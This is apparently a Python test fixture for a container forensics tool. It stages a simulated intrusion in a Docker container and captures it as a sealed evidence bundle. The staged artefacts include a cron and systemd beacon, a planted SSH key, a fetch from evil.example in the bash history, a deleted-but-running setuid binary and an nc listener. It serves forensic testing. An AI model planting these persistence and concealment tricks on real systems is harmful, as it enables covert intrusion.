"""A container that somebody was in, and a sealed capture of it: what other people's readers open.

with running_docker_engine() as engine:
    case = anyio.run(captured_visit, engine, Path("/tmp/x"))
print(case.bundle, case.public_key)
"""

from __future__ import annotations

import os
import sys
from dataclasses import dataclass
from pathlib import Path

import anyio

from forensics_core.bundle.layout import SEAL
from forensics_core.seals import generate_key, sign
from lab.docker import DockerEngine
from lab.images import busybox_rootfs
from lab.process import LabError

SECRET = "c0ffee-of-the-visit"  # noqa: S105 - to be looked for
"""In the environment of a process, in a file, and so in memory."""
PORT = 4747
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKHEChAwTGLXmBKkYTVkmUxFEAG3TIJp5IA4ntLkD7a6"
_FILES = {
    "etc/os-release": 'ID=debian\nNAME="Debian GNU/Linux"\nVERSION_ID="12"\n',
    "etc/debian_version": "12.1\n",
    "etc/crontab": "*/5 * * * * root /tmp/.x/beacon\n",
    "etc/systemd/system/beacon.service": "[Unit]\nDescription=B\n[Service]\nExecStart=/tmp/b\n",
    "root/.ssh/authorized_keys": f"{KEY} visitor\n",
    "root/.bash_history": "id\ncurl http://evil.example/x\n",
    "etc/os-note": SECRET,
    "var/lib/dpkg/status": (
        "Package: openssl\nStatus: install ok installed\nVersion: 3.0.9-1\n"
        "Architecture: amd64\nSource: openssl\nMaintainer: x <x@x>\nDescription: x\n\n"
    ),
}
_VISIT = f"""
export STOLEN={SECRET}
mkdir -p /tmp/.x /root/.ssh && cp /bin/busybox /tmp/.x/sleep && chmod 4755 /tmp/.x/sleep
printf 'note of the visitor\\n' > /dev/shm/note
truncate -s 8M /srv/holes && printf end >> /srv/holes
ln -s / /srv/everything
/tmp/.x/sleep 474747 &
until [ "$(readlink /proc/$!/exe)" = /tmp/.x/sleep ]; do :; done
rm /tmp/.x/sleep
nc -l -p {PORT} &
until netstat -ltn | grep -q {PORT}; do sleep 0.1; done
touch /tmp/ready
exec sleep 4747
"""


@dataclass(frozen=True)
class VisitedBundle:
    """A sealed bundle in a folder."""

    bundle: Path
    public_key: Path

    @property
    def container(self) -> Path:
        """The folder of the container."""
        (found,) = (self.bundle / "containers").iterdir()
        return found


async def captured_visit(engine: DockerEngine, folder: Path) -> VisitedBundle:
    """Let somebody into a container, and capture it with its memory, sealed. Raises `LabError`."""
    rootfs = busybox_rootfs(folder / "rootfs")
    for name, text in _FILES.items():
        (rootfs / name).parent.mkdir(parents=True, exist_ok=True)
        (rootfs / name).write_text(text)
    image = await engine.import_image(rootfs)
    command = ("/bin/sh", "-c", _VISIT)
    options = {"Hostname": "shop-1"}
    async with engine.container(image, command, **options) as container:
        await engine.exec(container, "until [ -e /tmp/ready ]; do sleep 0.1; done")
        bundle = await _collect(engine, container, folder)
    # As an operator would seal it, whose key no node has.
    private, public = generate_key()
    (folder / "forensics.pub").write_bytes(public)
    manifest = (bundle / "manifest.json").read_bytes()
    (bundle / SEAL).write_bytes(sign(manifest, private))
    return VisitedBundle(bundle, folder / "forensics.pub")


async def _collect(engine: DockerEngine, container: str, folder: Path) -> Path:
    """Run `forensics collect`; return the bundle."""
    kinds = ("inspect", "diff", "filesystem", "logs", "processes", "network", "memory")
    asked = [word for kind in kinds for word in ("--artifact", kind)]
    to = ("--to", str(folder), "--subpath", "cases", "--name", "42")
    command = [str(Path(sys.executable).parent / "forensics"), "collect", f"docker://{container}"]
    done = await anyio.run_process(
        [*command, *to, *asked], env={**os.environ, **engine.env}, check=False
    )
    if done.returncode:
        raise LabError(f"forensics collect ended with {done.returncode}: {done.stderr.decode()}")
    return folder / "cases/42"
